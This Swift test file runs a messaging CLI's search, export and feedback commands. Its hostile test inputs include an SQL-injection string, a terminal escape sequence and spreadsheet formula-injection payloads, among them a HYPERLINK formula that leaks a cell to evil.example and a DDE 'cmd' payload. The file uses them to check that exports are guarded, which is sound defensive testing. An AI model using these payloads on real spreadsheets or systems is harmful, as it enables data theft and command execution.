import Foundation
import Testing

/// `message search`, `thread export` and `feedback`, through the real binary.
@Suite struct HistoryCommands {
    func sandbox() throws -> Sandbox {
        let cli = try acceptedCreators(2)
        try cli.ok("message", "send", "summer-launch", "c01", "Your UPS tracking number is 1Z999AA10123456784.")
        try cli.ok("message", "send", "summer-launch", "c02", "Your DHL tracking number is JD014600006281234567.")
        try cli.ok("--as", "c01", "message", "send", "summer-launch", "c01", "When is the posting date?\u{1B}[2J")
        return cli
    }

    @Test func searchHighlightsSafelyAndReturnsWholeMessagesInJSON() throws {
        let cli = try sandbox()
        let human = try cli.ok("message", "search", "1Z999AA10123456784")
        #expect(human.contains("«1Z999AA10123456784»"))
        #expect(human.contains("@c01"))
        let hostile = try cli.ok("message", "search", "\"posting date\"")
        #expect(hostile.contains("«posting» «date»") || hostile.contains("«posting date»"))
        #expect(!hostile.contains("\u{1B}"))
        #expect(hostile.contains("\\x1b[2J"))
        let json = try cli.ok("message", "search", "tracking", "--json")
        #expect(try jq("[.[] | [.creator, .from, (.body | length > 0), .id > 0]] | sort", json) == #"[["@c01","brand",true,true],["@c02","brand",true,true]]"#)
        #expect(try jq("length", cli.ok("message", "search", "tracking", "--creator", "c02", "--json")) == "1")
        #expect(try jq("length", cli.ok("message", "search", "tracking", "--from", "creator", "--json")) == "0")
        #expect(try jq("[.[].creator]", cli.ok("--as", "c02", "message", "search", "tracking", "--json")) == #"["@c02"]"#)
        #expect(try cli.run("--as", "c02", "message", "search", "tracking", "--creator", "c01").status == 77)
        #expect(try cli.run("message", "search", "*").status == 0, "a lone * is searched as text, not an internal error")
        for empty in [[""], [" ", ""]] {
            let result = try cli.run(["message", "search"] + empty)
            #expect(result.status == 64, "\(empty): \(result.stderr)")
            #expect(result.stderr == "Error: invalid search: the search is empty\n", "\(empty)")
        }
    }

    /// What a person pastes into the search is searched, as in GitHub's or Gmail's search box:
    /// exit 0, never a usage error nor an engine's syntax error; text with no word finds nothing.
    @Test func pastedTextIsAlwaysASearch() throws {
        let cli = try sandbox()
        try cli.ok("--as", "c02", "message", "send", "summer-launch", "c02", "Is the parcel \"waiting\"? (ﾉಥ益ಥ）ﾉ")
        let hostile = ["\"", "(ﾉಥ益ಥ）ﾉ", "<>?:\"{}|_+", "AND", "OR", "NOT", "NEAR(", "(", ")", "()", "*", "^", "col:", "-", "\\",
                       "' OR 1=1 --", "😀", "\u{200F}", "\u{200B}", "\"waiting", "parcel)", "AND OR NOT (", "!@#$%^&*()"]
        for text in hostile {
            let result = try cli.run("message", "search", text, "--json")
            #expect(result.status == 0, "\(text): \(result.stderr)")
            #expect(result.stderr.isEmpty, "\(text): \(result.stderr)")
            let found = try jq("[.[].creator] | unique", result.stdout)
            #expect(found == "[]" || found == #"["@c02"]"#, "\(text): \(found)")
        }
        #expect(try jq("[.[].creator]", cli.ok("message", "search", "(ﾉಥ益ಥ）ﾉ", "--json")) == #"["@c02"]"#)
        #expect(try jq("[.[].creator]", cli.ok("message", "search", "\"waiting", "--json")) == #"["@c02"]"#)
        #expect(try cli.ok("message", "search", "\"") == "", "nothing to search for: nothing found, said on stderr only")
        // Words not quoted are one search for all of them, as `gh search issues parcel waiting` is.
        #expect(try jq("[.[].creator]", cli.ok("message", "search", "parcel", "waiting", "--json")) == #"["@c02"]"#)
        #expect(try jq("length", cli.ok("message", "search", "parcel", "posting", "--json")) == "0")
        #expect(try jq("length", cli.ok("message", "search", "tracking", "OR", "posting", "--json")) == "3")
    }

    @Test func exportStreamsJSONLinesAndCSVWithReadState() throws {
        let cli = try sandbox()
        let jsonl = try cli.ok("thread", "export", "--format", "jsonl")
        #expect(try jq("[inputs | [.creator, .from, .read]]", "null\n" + jsonl) == #"[["@c01","brand",true],["@c02","brand",false],["@c01","creator",false]]"#)
        try cli.ok("--as", "c01", "thread", "read", "summer-launch", "c01")
        #expect(try jq("[inputs | .read]", "null\n" + cli.ok("thread", "export", "summer-launch", "c01", "--format", "jsonl"))
                == "[true,false]")
        let csv = try cli.ok("thread", "export", "summer-launch", "--format", "csv")
        #expect(csv.hasPrefix("id,campaign,handle,from,body,sent_at,read,key,carrier,tracking_number,shipment_status\n"))
        #expect(csv.split(separator: "\n").count == 4)
        #expect(try cli.ok("thread", "export", "--format", "csv", "--since", "2999-01-01T00:00:00Z") == "id,campaign,handle,from,body,sent_at,read,key,carrier,tracking_number,shipment_status\n")
        #expect(try cli.run("thread", "export", "--format", "csv", "--since", "last week").status == 64)
        #expect(try cli.run("thread", "export").status == 64)
        #expect(try cli.run("--as", "c02", "thread", "export", "summer-launch", "c01", "--format", "csv").status == 77)
    }

    @Test func aCSVExportOfBrandMessagesRoundTripsThroughABulkSend() throws {
        let source = try sandbox()
        try source.ok("message", "send", "summer-launch", "c01", "Line one,\n\"quoted\" line two")
        try source.ok("message", "send", "summer-launch", "c02", "--", "- packed: 2 boxes")
        let export = try source.ok("thread", "export", "summer-launch", "--format", "csv", "--from", "brand", "--no-formula-guard")
        try export.write(toFile: source.path("export.csv"), atomically: true, encoding: .utf8)
        let target = try acceptedCreators(2)
        // The export's key column keys each row again, so re-importing sends nothing twice.
        for _ in 1...2 {
            let imported = try target.run("message", "send", "summer-launch", "--bulk", source.path("export.csv"), "--template", "{body}")
            #expect(imported.status == 0, "\(imported.stderr)")
        }
        let original = try source.joined("body", from: "message", where: "sender = 'brand'", orderBy: "id", separator: "|")
        let copied = try target.joined("body", from: "message", orderBy: "id", separator: "|")
        #expect(copied == original)
    }

    @Test func aCSVExportGuardsCellsASpreadsheetWouldRunAsFormulas() throws {
        let cli = try acceptedCreators(1)
        let hostile = [#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1",
                       "plain = text"]
        for (number, body) in hostile.enumerated() {
            try cli.ok("--as", "c01", "message", "send", "summer-launch", "c01", "--key", number == 0 ? "=1+2" : "k\(number)", "--", body)
        }
        // Python's csv module reads the cells back as a spreadsheet would receive them.
        func cells(_ csv: String) throws -> String {
            let script = "import csv, json, sys; print(json.dumps([[r['body'], r['key']] for r in csv.DictReader(sys.stdin)]))"
            let parsed = try Sandbox.execute(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", script], stdin: Data(csv.utf8),
                                             environment: cli.environment, in: cli.folder)
            #expect(parsed.status == 0, "\(parsed.stderr)")
            return try jq("[.[] | .[0]], .[0][1]", parsed.stdout).replacingOccurrences(of: "\n", with: " ")
        }
        let guarded = try cells(cli.ok("thread", "export", "--format", "csv"))
        #expect(guarded == #"["'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")","'+cmd|' /C calc'!A0","'@SUM(1+1)","'-2+3","'\t=1+1","'\r=1+1","plain = text"] "'=1+2""#)
        let exact = try cells(cli.ok("thread", "export", "--format", "csv", "--no-formula-guard"))
        #expect(exact == #"["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")","+cmd|' /C calc'!A0","@SUM(1+1)","-2+3","\t=1+1","\r=1+1","plain = text"] "=1+2""#)
        #expect(try jq("[inputs | .body][0]", "null\n" + cli.ok("thread", "export", "--format", "jsonl")) == #""=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")""#,
                "JSON Lines stays exact")

        // A tracking number is letters and digits now, but a shipment recorded before may hold anything.
        try cli.ok("message", "send", "summer-launch", "c01", "parcel", "--tracking", "1Z999AA10123456784")
        _ = try cli.query("UPDATE shipment SET number = '=1+1'")
        let numbers = try cli.ok("thread", "export", "--format", "csv").split(separator: "\n").compactMap { $0.split(separator: ",").dropLast().last }
        #expect(numbers.contains("'=1+1"), "\(numbers)")
        #expect(try cli.ok("thread", "export", "--format", "csv", "--no-formula-guard").contains(",=1+1,"))
    }

    @Test func exportMemoryStaysFlatOverAHundredThousandMessages() throws {
        let cli = try sandbox()
        _ = try cli.query(cli.sql(sqlite: """
            WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100000)
            INSERT INTO message (thread_id, sender, sender_seq, body, sent_at)
              SELECT 1, 'brand', 100 + i, printf('Parcel %d: your UPS tracking number is 1Z%010d, shipped with care.', i, i), '2026-01-01T00:00:00.000Z' FROM n;
            """, postgres: """
            INSERT INTO message (thread_id, sender, sender_seq, body, sent_at)
              SELECT 1, 'brand', 100 + i, format('Parcel %s: your UPS tracking number is 1Z%s, shipped with care.', i, lpad(i::text, 10, '0')),
                     '2026-01-01T00:00:00.000Z' FROM generate_series(1, 100000) AS i;
            """))
        let script = """
            import resource, subprocess, sys
            p = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)
            print(p.returncode, p.stdout.count(b"\\n"), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
            """
        let result = try Sandbox.execute(URL(fileURLWithPath: "/usr/bin/env"),
                                         ["python3", "-c", script, Sandbox.binary.path, "thread", "export", "--format", "jsonl"],
                                         stdin: nil, environment: cli.environment, in: cli.folder)
        let numbers = result.stdout.split(separator: " ").compactMap { Int($0.trimmingCharacters(in: .whitespacesAndNewlines)) }
        #expect(numbers.count == 3)
        #expect(numbers.first == 0)
        #expect(numbers.dropFirst().first == 100_003)
        #expect((numbers.last ?? .max) < 40 * 1024, "peak memory \(numbers.last ?? -1) KiB for ~10 MB of output")
    }

    @Test func feedbackNeverShowsUpInChat() throws {
        let cli = try sandbox()
        try cli.ok("feedback", "add", "summer-launch", "c01", "Please reshoot FEEDBACKWORD with the logo visible")
        #expect(try jq("[.[] | [.creator, .body]]", cli.ok("feedback", "list", "summer-launch", "--json"))
                == #"[["@c01","Please reshoot FEEDBACKWORD with the logo visible"]]"#)
        #expect(try jq("length", cli.ok("--as", "c01", "feedback", "list", "summer-launch", "--json")) == "1")
        let human = try cli.ok("feedback", "list", "summer-launch")
        #expect(human.contains("@c01") && human.contains("    Please reshoot FEEDBACKWORD with the logo visible"))
        #expect(try jq("length", cli.ok("--as", "c02", "feedback", "list", "summer-launch", "--json")) == "0")
        for arguments in [["thread", "read", "summer-launch", "c01", "--no-mark-read"], ["--as", "c01", "thread", "read", "summer-launch", "c01"],
                          ["unread", "list"], ["--as", "c01", "unread", "list"], ["thread", "list"], ["message", "search", "FEEDBACKWORD"],
                          ["push", "list"], ["thread", "export", "--format", "jsonl"]] {
            let result = try cli.run(arguments)
            #expect(result.status == 0, "\(arguments): \(result.stderr)")
            #expect(!result.stdout.contains("FEEDBACKWORD"), "\(arguments)")
        }
        #expect(try cli.run("feedback", "add", "summer-launch", "nobody", "x").status == 66)
        try cli.ok("creator", "add", "invited-one")
        try cli.ok("creator", "invite", "summer-launch", "A", "invited-one")
        #expect(try cli.run("feedback", "add", "summer-launch", "invited-one", "x").status == 77)
    }
}
